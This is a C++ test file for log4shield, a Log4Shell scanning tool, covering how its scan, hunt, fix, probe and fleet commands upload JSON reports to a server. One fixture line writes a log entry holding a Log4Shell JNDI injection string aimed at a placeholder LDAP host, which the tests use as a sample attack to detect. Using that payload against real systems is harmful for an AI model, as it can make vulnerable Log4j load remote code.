// End-to-end tests of --upload and `fleet upload` against a loopback HTTP
// responder that records what it is sent (plain HTTP; the HTTPS run against
// a real `fleet serve` lives with the server's tests).
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "shell.h"
#include "upload/test_http_server.h"
#include "upload/test_util.h"

namespace {

namespace stdfs = std::filesystem;
using nlohmann::json;
using l4s::test::HttpAnswer;
using l4s::test::TestHttpServer;
using l4s::test::shell_quote;

std::string slurp(const stdfs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::vector<stdfs::path> reports_in(const stdfs::path& dir) {
  std::vector<stdfs::path> out;
  std::error_code ec;
  for (const auto& e : stdfs::directory_iterator(dir, ec))
    if (e.path().extension() == ".report") out.push_back(e.path());
  return out;
}

class UploadE2e : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = l4s::test::scratch_dir();
    stdfs::create_directories(dir_ / "app");
    std::ofstream(dir_ / "app" / "readme.txt") << "nothing to see\n";
    std::ofstream(dir_ / "logs.log") << "GET /${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\n";
    token_ = (dir_ / "token").string();
    std::ofstream(token_) << "tok-e2e\n";
    chmod(token_.c_str(), 0600);
    outbox_ = (dir_ / "outbox").string();
  }

  // Runs log4shield; stdout in the result, stderr in err_.
  l4s::test::ShellResult run(const std::string& args) {
    const std::string err = (dir_ / "stderr.txt").string();
    auto r = l4s::test::run_shell(std::string(L4S_BINARY) + " " + args + " 2>" + shell_quote(err));
    err_ = slurp(err);
    return r;
  }

  std::string upload_flags(const std::string& url) const {
    return " --upload " + url + " --token-file " + shell_quote(token_) + " --outbox " + shell_quote(outbox_) +
           " --upload-backoff 0.01 ";
  }
  std::string app() const { return shell_quote((dir_ / "app").string()); }
  static std::string down_url() { return "http://127.0.0.1:" + std::to_string(l4s::test::refused_port()); }

  stdfs::path dir_;
  std::string token_, outbox_, err_;
};

TEST_F(UploadE2e, ScanSendsExactlyItsJsonReport) {
  TestHttpServer server;
  const std::string out = (dir_ / "scan.json").string();
  auto r = run("scan --quiet --format json -o " + shell_quote(out) + " --host-name web42 " + app() +
               upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  auto requests = server.requests();
  ASSERT_EQ(requests.size(), 1u) << err_;
  const auto& q = requests[0];
  EXPECT_EQ(q.target, "/api/v1/reports");
  EXPECT_EQ(q.header("authorization"), "Bearer tok-e2e");
  EXPECT_EQ(q.header("content-encoding"), "gzip");
  EXPECT_EQ(q.header("x-log4shield-host"), "web42") << "the host the report is about";
  EXPECT_EQ(l4s::test::gunzip(q.body), slurp(out)) << "the bytes of --format json";
  EXPECT_NE(err_.find("stored"), std::string::npos) << err_;
  EXPECT_TRUE(reports_in(outbox_).empty());
}

TEST_F(UploadE2e, TextOutputStillUploadsJson) {
  TestHttpServer server;
  auto r = run("scan --quiet --format text " + app() + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  EXPECT_EQ(r.out.rfind("Scanned 1 files", 0), 0u) << "the user still reads text: " << r.out;
  ASSERT_EQ(server.requests().size(), 1u);
  json body = json::parse(l4s::test::gunzip(server.requests()[0].body));
  EXPECT_EQ(body["roots"], json::array({(dir_ / "app").string()}));
  EXPECT_TRUE(body["findings"].is_array());
}

TEST_F(UploadE2e, FixSendsItsJsonReport) {
  TestHttpServer server;
  auto r = run("fix --dry-run --quiet --format text --host-name web09 --backup-dir " +
               shell_quote((dir_ / "backups").string()) + " " + app() + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  ASSERT_EQ(server.requests().size(), 1u) << err_;
  json body = json::parse(l4s::test::gunzip(server.requests()[0].body));
  EXPECT_EQ(body["roots"], json::array({(dir_ / "app").string()}));
  EXPECT_TRUE(body["findings"].is_array());
  EXPECT_EQ(body["host"], "web09");
  EXPECT_EQ(server.requests()[0].header("x-log4shield-host"), "web09");
}

TEST_F(UploadE2e, ServerDownKeepsTheReportAndFleetUploadDeliversItOnce) {
  auto r = run("scan --quiet --format json " + app() + upload_flags(down_url()) + " --upload-attempts 2");
  const std::string scan_out = r.out;
  EXPECT_EQ(r.exit_code, 0) << "a transient failure does not change the exit code: " << err_;
  EXPECT_NE(err_.find("kept in " + outbox_), std::string::npos) << err_;
  auto kept = reports_in(outbox_);
  ASSERT_EQ(kept.size(), 1u);
  struct stat st;
  ASSERT_EQ(stat(outbox_.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);

  TestHttpServer server;
  const std::string fleet_upload = "fleet upload --server " + server.url() + " --token-file " + shell_quote(token_) +
                                   " --outbox " + shell_quote(outbox_);
  r = run(fleet_upload);
  EXPECT_EQ(r.exit_code, 0) << err_;
  ASSERT_EQ(server.requests().size(), 1u);
  EXPECT_EQ(l4s::test::gunzip(server.requests()[0].body), scan_out) << "the scan's own JSON";
  EXPECT_TRUE(reports_in(outbox_).empty());
  r = run(fleet_upload);
  EXPECT_EQ(r.exit_code, 0) << err_;
  EXPECT_EQ(server.requests().size(), 1u) << "a second delivery sends nothing";
}

TEST_F(UploadE2e, TheNextRunDeliversWhatWaitsFirst) {
  run("scan --quiet --format json " + app() + upload_flags(down_url()) + " --upload-attempts 1");
  ASSERT_EQ(reports_in(outbox_).size(), 1u) << err_;
  const std::string waiting = slurp(reports_in(outbox_)[0]);
  TestHttpServer server;
  auto r = run("hunt --format json --host-name app07 " + shell_quote((dir_ / "logs.log").string()) +
               upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 1) << err_;
  auto requests = server.requests();
  ASSERT_EQ(requests.size(), 2u) << err_;
  EXPECT_EQ(requests[1].header("x-log4shield-host"), "app07");
  EXPECT_EQ(json::parse(r.out)["host"], "app07");
  EXPECT_NE(waiting.find(l4s::test::gunzip(requests[0].body)), std::string::npos) << "the waiting scan went first";
  EXPECT_EQ(l4s::test::gunzip(requests[1].body), r.out) << "then this hunt's report";
  EXPECT_TRUE(reports_in(outbox_).empty());
}

TEST_F(UploadE2e, RefusalMakesACleanRunIncompleteAndKeepsTheReport) {
  TestHttpServer server;
  server.set_fallback({403, R"({"error":"host web42 outside the token's scope"})", {}});
  auto r = run("scan --quiet --format json " + app() + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 2) << err_;
  EXPECT_EQ(server.requests().size(), 1u) << "a refusal is not retried";
  EXPECT_NE(err_.find("outside the token's scope"), std::string::npos) << err_;
  auto rejected = reports_in(stdfs::path(outbox_) / "rejected");
  ASSERT_EQ(rejected.size(), 1u);
  json why = json::parse(slurp(rejected[0].string() + ".reason"));
  EXPECT_EQ(why["http_status"], 403);
  EXPECT_TRUE(reports_in(outbox_).empty()) << "not retried later either";
}

TEST_F(UploadE2e, RefusalLeavesFoundAsFound) {
  TestHttpServer server;
  server.set_fallback({413, R"({"error":"too large"})", {}});
  auto r = run("hunt --format text " + shell_quote((dir_ / "logs.log").string()) + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 1) << "attempts found say more than the refused upload: " << err_;
  ASSERT_EQ(server.requests().size(), 1u);
  json body = json::parse(l4s::test::gunzip(server.requests()[0].body));
  ASSERT_EQ(body["detections"].size(), 1u) << "text for the user, JSON for the server";
  EXPECT_EQ(body["detections"][0]["verdict"], "reaches_jndi_2.14");
}

TEST_F(UploadE2e, RetriesThroughBusyServer) {
  TestHttpServer server;
  server.script({{503, "{}", {}}, {429, "{}", {"Retry-After: 0"}}});
  auto r = run("scan --quiet --format json " + app() + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  EXPECT_EQ(server.requests().size(), 3u);
  EXPECT_TRUE(reports_in(outbox_).empty());
}

TEST_F(UploadE2e, FleetUploadSendsSavedReportsWithTheirHost) {
  const std::string saved = (dir_ / "saved.json").string();
  ASSERT_EQ(run("scan --quiet --format json --host-name db07 -o " + shell_quote(saved) + " " + app()).exit_code, 0);
  const std::string junk = (dir_ / "junk.json").string();
  std::ofstream(junk) << R"({"type":1})";
  TestHttpServer server;
  auto r = run("fleet upload --server " + server.url() + " --token-file " + shell_quote(token_) + " " +
               shell_quote(saved) + " " + shell_quote(junk));
  EXPECT_EQ(r.exit_code, 2) << "the junk file is not a report: " << err_;
  auto requests = server.requests();
  ASSERT_EQ(requests.size(), 1u) << "only the report is sent";
  EXPECT_EQ(requests[0].header("x-log4shield-host"), "db07");
  EXPECT_EQ(l4s::test::gunzip(requests[0].body), slurp(saved));
  EXPECT_NE(err_.find("not a report"), std::string::npos) << err_;
}

TEST_F(UploadE2e, UsageErrorsComeBeforeTheRun) {
  TestHttpServer server;
  const std::string scan = "scan --quiet --format json " + app();
  EXPECT_EQ(run(scan + " --upload " + server.url()).exit_code, 64) << "--upload needs --token-file";
  EXPECT_EQ(run(scan + " --token-file " + shell_quote(token_)).exit_code, 64) << "--token-file needs --upload";
  EXPECT_EQ(run(scan + " --upload ftp://x --token-file " + shell_quote(token_)).exit_code, 64);
  EXPECT_EQ(run(scan + " --upload " + server.url() + " --token-file /nonexistent/token").exit_code, 64);
  EXPECT_EQ(run(scan + upload_flags(server.url()) + " --ca-cert /nonexistent/ca.pem").exit_code, 64);
  EXPECT_EQ(run("hunt --follow " + shell_quote((dir_ / "logs.log").string()) + upload_flags(server.url())).exit_code, 64);
  EXPECT_TRUE(server.requests().empty());
}

TEST_F(UploadE2e, WarnsAboutATokenOthersCanRead) {
  chmod(token_.c_str(), 0644);
  TestHttpServer server;
  auto r = run("scan --quiet --format json " + app() + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_NE(err_.find("readable by group or others"), std::string::npos) << err_;
  EXPECT_EQ(server.requests().size(), 1u);
}

TEST_F(UploadE2e, ProbeAndCanaryUploadTheirJsonl) {
  TestHttpServer target;  // the probed service
  target.set_fallback({200, "ok", {}});
  TestHttpServer server;
  const std::string db = shell_quote((dir_ / "canary.db").string());
  auto r = run("probe --wait 0 --rate 0 --db " + db + " --format jsonl " + target.url() + "/" +
               upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  ASSERT_EQ(server.requests().size(), 1u) << err_;
  EXPECT_EQ(l4s::test::gunzip(server.requests()[0].body), r.out) << "the jsonl probe report";
  EXPECT_FALSE(server.requests()[0].header("x-log4shield-host").empty());

  // A canary that recorded nothing has nothing to send.
  r = run("canary --list --db " + db + upload_flags(server.url()));
  EXPECT_EQ(r.exit_code, 0) << err_;
  EXPECT_EQ(server.requests().size(), 1u);
  EXPECT_NE(err_.find("no canary report to send"), std::string::npos) << err_;
}

}  // namespace
